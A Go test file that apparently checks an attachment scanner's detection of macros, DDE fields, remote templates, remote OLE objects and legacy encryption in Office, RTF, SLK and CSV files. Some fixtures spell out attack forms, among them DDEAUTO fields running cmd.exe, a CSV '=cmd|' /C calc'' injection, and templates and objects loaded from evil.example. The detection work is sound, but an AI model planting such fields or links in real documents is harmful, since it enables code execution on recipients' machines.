package attach

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
)

// record makes a record of BIFF: number, length, content.
func record(id int, content string) string {
	var b []byte
	b = binary.LittleEndian.AppendUint16(b, uint16(id))
	b = binary.LittleEndian.AppendUint16(b, uint16(len(content)))
	return string(b) + content
}

// slide makes a record of a presentation.
func slide(flags, kind int, content string) string {
	var b []byte
	b = binary.LittleEndian.AppendUint16(b, uint16(flags))
	b = binary.LittleEndian.AppendUint16(b, uint16(kind))
	b = binary.LittleEndian.AppendUint32(b, uint32(len(content)))
	return string(b) + content
}

func ole(name, content string, more ...string) []byte {
	return makeCompound(map[string]string{name: content}, append([]string{name}, more...)...)
}

func wide(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteString(string([]byte{byte(u), byte(u >> 8)}))
	}
	return b.String()
}

func zlibbed(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.String()
}

func rels(kind, target, mode string) string {
	return `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="` + mode + `"/></Relationships>`
}

func TestMacros(t *testing.T) {
	bof := record(biffBOF, "\x00\x06\x05\x00")
	sheet := func(state, kind byte) string {
		return bof + record(biffBoundSheet, "\x00\x00\x00\x00"+string([]byte{state, kind})+"\x01\x00a") + record(biffEOF, "")
	}
	field := func(runs ...string) part {
		var b strings.Builder
		for _, r := range runs {
			b.WriteString(`<w:r><w:instrText xml:space="preserve">` + r + `</w:instrText></w:r>`)
		}
		return part{name: "word/document.xml", content: `<w:p><w:fldChar w:fldCharType="begin"/>` + b.String() + `<w:fldChar w:fldCharType="end"/></w:p>`}
	}
	word := func(parts ...part) []byte {
		return makeZip(t, append([]part{contentTypes("openxmlformats-officedocument.wordprocessingml.document.main")}, parts...)...)
	}
	sheetFile := func(parts ...part) []byte {
		return makeZip(t, append([]part{contentTypes("openxmlformats-officedocument.spreadsheetml.sheet.main")}, parts...)...)
	}
	active := "ActiveMime\x00\x00" + strings.Repeat("\x00", 0x32-12) + zlibbed(string(makeCompound(nil, "VBA", "dir")))
	odfPart := part{"mimetype", odf + "text", stored}
	const settings = "word/_rels/settings.xml.rels"

	tests := []struct {
		name    string
		content []byte
		kind    string // empty: no macro
	}{
		{"vba.doc", ole("WordDocument", "", "Macros", "VBA"), "vba"},
		{"vba.xls", ole("Workbook", "", "_VBA_PROJECT_CUR"), "vba"},
		{"vba.pub", makeCompound(nil, "Quill", "VBA", "dir"), "vba"},
		{"plain.pub", makeCompound(nil, "Quill", "VBA"), ""},
		{"vba.vsd", makeCompound(nil, "VisioDocument", "VBA", "dir"), "vba"},
		{"vba.ppt", ole("PowerPoint Document", slide(15, 0x03e8, slide(15, 0x03ff, slide(2, 0x0400, "\x05\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00")))), "vba"},
		{"plain.ppt", ole("PowerPoint Document", slide(15, 0x03e8, slide(15, 0x03ff, slide(2, 0x0400, "\x05\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00")))), ""},
		{"xlm.xls", ole("Workbook", sheet(0, 1)), "xlm"},
		{"hidden.xls", ole("Workbook", sheet(2, 1)), "xlm"},
		{"modules.xls", ole("Book", sheet(0, 6)), "xlm"},
		{"sheet.xls", ole("Workbook", sheet(0, 0)), ""},
		{"chart.xls", ole("Workbook", sheet(1, 2)), ""},
		{"excel4.xls", []byte("\x09\x04\x06\x00\x00\x00\x40\x00\x00\x00\x0a\x00\x00\x00"), "xlm"},
		{"excel4-sheet.xls", []byte("\x09\x04\x06\x00\x00\x00\x10\x00\x00\x00\x0a\x00\x00\x00"), ""},
		{"dde.doc", ole("WordDocument", strings.Repeat("\x00", 1024)+"\x13 DDEAUTO c:\\\\windows\\\\x \x14\x15"), "dde"},
		{"dde-wide.doc", ole("WordDocument", strings.Repeat("\x00", 1024)+wide("\x13 ddeauto excel \x14")), "dde"},
		{"field.doc", ole("WordDocument", strings.Repeat("\x00", 1024)+"\x13 HYPERLINK \"http://ddeauto.example\" \x14\x15"), ""},

		{"vba.docx", docx(t, part{name: "word/vbaProject.bin", content: "x"}), "vba"},
		{"case.docx", docx(t, part{name: "WORD\\VBAPROJECT.BIN", content: "x"}), "vba"},
		{"renamed.docx", makeZip(t, part{name: "[Content_Types].xml", content: `<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`},
			part{name: "word/innocent.bin", content: "x"}, part{name: "word/_rels/document.xml.rels", content: `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.bin"/>`}), "vba"},
		{"plain.docx", docx(t, part{name: "word/media/printerSettings1.bin", content: "x"}), ""},
		{"binary.xlsb", makeZip(t, contentTypes("ms-excel.sheet.binary.macroEnabled.main"), part{name: "xl/workbook.bin"}), ""},
		{"xlm.xlsb", makeZip(t, contentTypes("ms-excel.sheet.binary.macroEnabled.main"), part{name: "xl/macrosheets/sheet1.bin"}), "xlm"},
		{"xlm.xlsx", sheetFile(part{name: "xl/macrosheets/sheet1.xml", content: "<x/>"}), "xlm"},
		{"dde.docx", word(field(` DDEAUTO c:\\x\\cmd.exe "/k" `)), "dde"},
		{"dde-runs.docx", word(field(" D", "DE", "AUTO c:\\\\x ", " y")), "dde"},
		{"dde-entity.docx", word(field(" D&#68;E excel sheet ")), "dde"},
		{"dde-simple.docx", word(part{name: "word/document.xml", content: `<w:fldSimple w:instr="DDE excel x"/>`}), "dde"},
		{"toc.docx", word(field(` TOC \o "1-3" `), part{name: "word/header1.xml", content: `<w:t>DDEAUTO instrText</w:t>`}), ""},
		{"dde.xlsx", sheetFile(part{name: "xl/externalLinks/externalLink1.xml", content: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>`}), "dde"},
		{"linked.xlsx", sheetFile(part{name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: rels("externalLinkPath", "https://own.sharepoint.example/a.xlsx", "External")}), ""},
		{"template.docx", word(part{name: settings, content: rels("attachedTemplate", "https://evil.example/t.dotm", "External")}), "template"},
		{"template-disk.docx", word(part{name: settings, content: rels("attachedTemplate", `file:///C:\Users\tanaka\Templates\社内.dotx`, "External")}), ""},
		{"template-server.docx", word(part{name: settings, content: rels("attachedTemplate", `file://\\server\templates\a.dotx`, "External")}), ""},
		{"remote.docx", word(part{name: "word/_rels/document.xml.rels", content: rels("oleObject", "mhtml:http://evil.example/x!http://evil.example/x", "External")}), "remote-object"},
		{"link.docx", word(part{name: "word/_rels/document.xml.rels", content: rels("hyperlink", "https://www.example.jp/", "External")}), ""},

		{"basic.odt", makeZip(t, odfPart, part{name: "Basic/Standard/Module1.xml", content: "<x/>"}), "basic"},
		{"empty-library.odt", makeZip(t, odfPart, part{name: "Basic/script-lc.xml", content: "<x/>"}, part{name: "Basic/Standard/script-lb.xml", content: "<x/>"}), ""},
		{"python.ods", makeZip(t, odfPart, part{name: "Scripts/python/a.py", content: "x"}), "basic"},
		{"encryption-data.odt", makeZip(t, odfPart, part{name: "META-INF/manifest.xml", content: `<manifest:file-entry manifest:full-path="encryption-data.png"/>`}), ""},

		{"vba.rtf", []byte(`{\rtf1{\*\template http://evil.example/t.dot}}`), "template"},
		{"template.rtf", []byte(`{\rtf1{\*\template C:\\Templates\\a.dot}}`), ""},
		{"dde.rtf", []byte(`{\rtf1{\field{\*\fldinst {\rtlch\fcs1 DDE}{\b AUTO c:\\x cmd}}{\fldrslt x}}}`), "dde"},
		{"link.rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://a.example/"}{\fldrslt x}}}`), ""},
		{"auto.slk", []byte("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nE\r\n"), "xlm"},
		{"plain.slk", []byte("ID;PWXL;N;E\r\nC;Y1;X1;K\"見積\"\r\nE\r\n"), ""},
		{"web.iqy", []byte("WEB\r\n1\r\nhttps://a.example/q\r\n"), "web-query"},
		{"dde.csv", []byte("名前,値\r\n=cmd|' /C calc'!A0,1\r\n"), "dde"},
		{"plain.csv", []byte("名前|'番号',値\r\n=1+1,2\r\n-3,'x'!\r\n"), ""},
		{"a.mdb", append([]byte("\x00\x01\x00\x00Standard Jet DB\x00"), make([]byte, 4096)...), "access"},
		{"flat.xml", []byte(`<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes" xmlns:w="x"/>`), "vba"},
		{"package.xml", []byte(`<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:contentType="application/vnd.ms-office.vbaProject"/></pkg:package>`), "vba"},
		{"editdata.mso", []byte(active), ""}, // the project is inside
		{"page.htm", []byte(`<html>` + base64.StdEncoding.EncodeToString([]byte(active)) + `</html>`), ""},
	}
	for _, test := range tests {
		a := look(test.name, test.content)
		want := "macro:" + test.kind
		if got := inFull(a); test.kind == "" && marked(&a, "macro") || test.kind != "" && !strings.Contains(got, want) {
			t.Errorf("%s: %s, want %q", test.name, got, test.kind)
		}
	}
	for _, name := range []string{"editdata.mso", "page.htm"} {
		content := []byte(active)
		if name == "page.htm" {
			content = []byte(`<html>` + base64.StdEncoding.EncodeToString(content) + `</html>`)
		}
		if got := brief(look(name, content)); !strings.Contains(got, "[oledata.bin application/x-ole-storage macro]") {
			t.Errorf("%s with a project inside: %s, want it to have macros", name, got)
		}
	}
}

func TestLegacyEncryption(t *testing.T) {
	bof := record(biffBOF, "\x00\x06\x05\x00")
	pass := record(biffFilePass, "\x00\x00\x12\x34\x56\x78")
	user := func(token string) string { return strings.Repeat("\x00", 12) + token + strings.Repeat("\x00", 16) }
	fib := func(flags string) string {
		return "\xec\xa5\xc1\x00\x00\x00\x00\x00\x00\x00" + flags + strings.Repeat("\x00", 32)
	}
	presentation := func(token string) []byte {
		return makeCompound(map[string]string{"PowerPoint Document": slide(0, 0x0fa8, "x"), "Current User": user(token)}, "PowerPoint Document", "Current User")
	}
	for _, test := range []struct {
		name, how string
		content   []byte
	}{
		{"first.xls", "office-xor", ole("Workbook", bof+pass)},
		{"behind.xls", "office-xor", ole("Workbook", bof+record(0x86, "")+record(0x5c, strings.Repeat(" ", 112))+pass)},
		{"old.xls", "office-xor", ole("Book", bof+record(biffFilePass, "\x12\x34\x56\x78"))},
		{"sheet-only.xls", "", ole("Workbook", bof+record(0x12, "\x01\x00")+record(0x13, "\x12\x34")+record(biffEOF, "")+pass)},
		{"new.xls", "office-97", ole("Workbook", bof+record(biffFilePass, "\x09\x00"))},
		{"xor.doc", "office-xor", ole("WordDocument", fib("\x00\x81"))},
		{"rc4.doc", "office-rc4", makeCompound(map[string]string{"WordDocument": fib("\x00\x01"), "0Table": "\x01\x00\x01\x00"}, "WordDocument", "0Table")},
		{"cryptoapi.doc", "office-cryptoapi", makeCompound(map[string]string{"WordDocument": fib("\x00\x03"), "1Table": "\x04\x00\x02\x00", "0Table": "\x01\x00\x01\x00"}, "WordDocument", "0Table", "1Table")},
		{"plain.doc", "", ole("WordDocument", fib("\x00\x02"))},
		{"token.ppt", "office-97", presentation("\xdf\xc4\xd1\xf3")},
		{"plain.ppt", "", presentation("\x5f\xc0\x91\xe3")},
		{"rms.docx", "rms", makeCompound(nil, "EncryptedPackage", "DRMEncryptedTransform")},
		{"rms.doc", "rms", makeCompound(nil, "WordDocument", "\x09DRMContent")},
		{"extensible.docx", "ooxml-extensible", makeCompound(map[string]string{"EncryptionInfo": "\x03\x00\x03\x00"}, "EncryptionInfo", "EncryptedPackage")},
	} {
		got := brief(look(test.name, test.content))
		if want := " encrypted:" + test.how; (test.how != "") != strings.Contains(got, " encrypted:") || test.how != "" && !strings.HasSuffix(got, want) {
			t.Errorf("%s: %s, want encrypted by %q", test.name, got, test.how)
		}
	}
}
